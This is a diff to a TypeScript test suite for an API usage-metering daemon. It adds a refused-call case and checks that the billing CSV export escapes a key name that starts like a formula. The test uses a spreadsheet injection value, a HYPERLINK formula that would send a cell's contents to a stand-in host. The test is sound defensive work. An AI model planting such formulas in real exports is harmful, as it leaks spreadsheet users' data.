@@ -12,10 +12,15 @@ import { request } from './helpers/http.js';
 import { selfSignedCert } from './helpers/tls.js';
 
 const upstream = http.createServer((req, res) => {
-  req.resume();
+  const chunks: Buffer[] = [];
+  req.on('data', (c: Buffer) => chunks.push(c));
   req.on('end', () => {
     res.setHeader('content-type', 'application/json');
     if (req.method === 'GET') return res.end(JSON.stringify({ data: [{ id: 'm' }, { id: 'e' }] }));
+    if (Buffer.concat(chunks).includes('refuse me')) {
+      res.statusCode = 400;
+      return res.end(JSON.stringify({ error: { message: 'no' } }));
+    }
     if (req.url === '/v1/embeddings') {
       return res.end(JSON.stringify({ data: [{ index: 0, embedding: [1, 0] }], usage: { prompt_tokens: 5, total_tokens: 5 } }));
     }
@@ -58,6 +63,8 @@ const withConfig = ['--config', config];
 const onStarter = createKey(dataDir, 'retail', withConfig);
 const onBusiness = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business']);
 const ownLimit = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business', '--rpm', '5']);
+// A name a spreadsheet would run as a formula, if the export let it through as it is.
+const formulaNamed = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business', '--name', '=HYPERLINK("http://x/?"&A1,"x")']);
 const daemon = await startDaemon(t, withConfig);
 const call = (secret: string, path = '/models', body?: unknown) =>
   request(`${daemon.baseURL}${path}`, {
@@ -120,6 +127,9 @@ t.test('usage is metered per key, endpoint and day, and exported for billing', a
   }
   t.equal((await call(onBusiness.secret, '/embeddings', { model: 'embed', input: 'hello' })).status, 200);
   t.equal((await call(onBusiness.secret, '/chat/completions', { model: 'nope', messages: [{ role: 'user', content: 'x' }] })).status, 404);
+  const refused = await call(onBusiness.secret, '/chat/completions', { model: 'chat', messages: [{ role: 'user', content: 'refuse me' }] });
+  t.equal(refused.status, 400, 'a call the upstream refused');
+  t.equal((await call(formulaNamed.secret)).status, 200);
   // Counts reach the store every 5 s and at shutdown.
   await daemon.stop();
 
@@ -132,16 +142,20 @@ t.test('usage is metered per key, endpoint and day, and exported for billing', a
     .map((line) => JSON.parse(line) as Record<string, string | number>);
   const business = rows.filter((r) => r.key === onBusiness.id);
   const chat = business.find((r) => r.endpoint === '/v1/chat/completions')!;
-  t.match(chat, {
-    day: today,
-    project_name: 'treasury',
-    plan: 'business',
-    requests: 3,
-    errors: 1,
-    rate_limited: 0,
-    prompt_tokens: 22,
-    completion_tokens: 14,
-  });
+  t.match(
+    chat,
+    {
+      day: today,
+      project_name: 'treasury',
+      plan: 'business',
+      requests: 4,
+      errors: 2,
+      rate_limited: 0,
+      prompt_tokens: 22,
+      completion_tokens: 14,
+    },
+    'the refused call and the unknown model are counted, and billed no tokens',
+  );
   t.match(
     business.find((r) => r.endpoint === '/v1/embeddings'),
     { requests: 1, prompt_tokens: 5, completion_tokens: 0 },
@@ -160,6 +174,8 @@ t.test('usage is metered per key, endpoint and day, and exported for billing', a
   t.equal(lines[0], 'day,project,project_name,key,key_name,plan,endpoint,requests,errors,rate_limited,prompt_tokens,completion_tokens');
   t.ok(lines.length > 1 && lines.slice(1).every((l) => l.includes(',treasury,')), `only the project asked for: ${lines.join(' / ')}`);
   t.notOk(lines.some((l) => l.includes(onStarter.id)));
+  const formulaLine = lines.find((l) => l.includes(formulaNamed.id))!;
+  t.match(formulaLine, /,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""x""\)",/, 'a name that starts like a formula is written as text');
 
   t.equal(cli(['usage', 'export', '--from', '2026-13-01', ...withConfig]).code, 2, 'a bad day is a usage error');
   const unknownProject = cli(['usage', 'export', '--project', 'nobody', ...withConfig]);
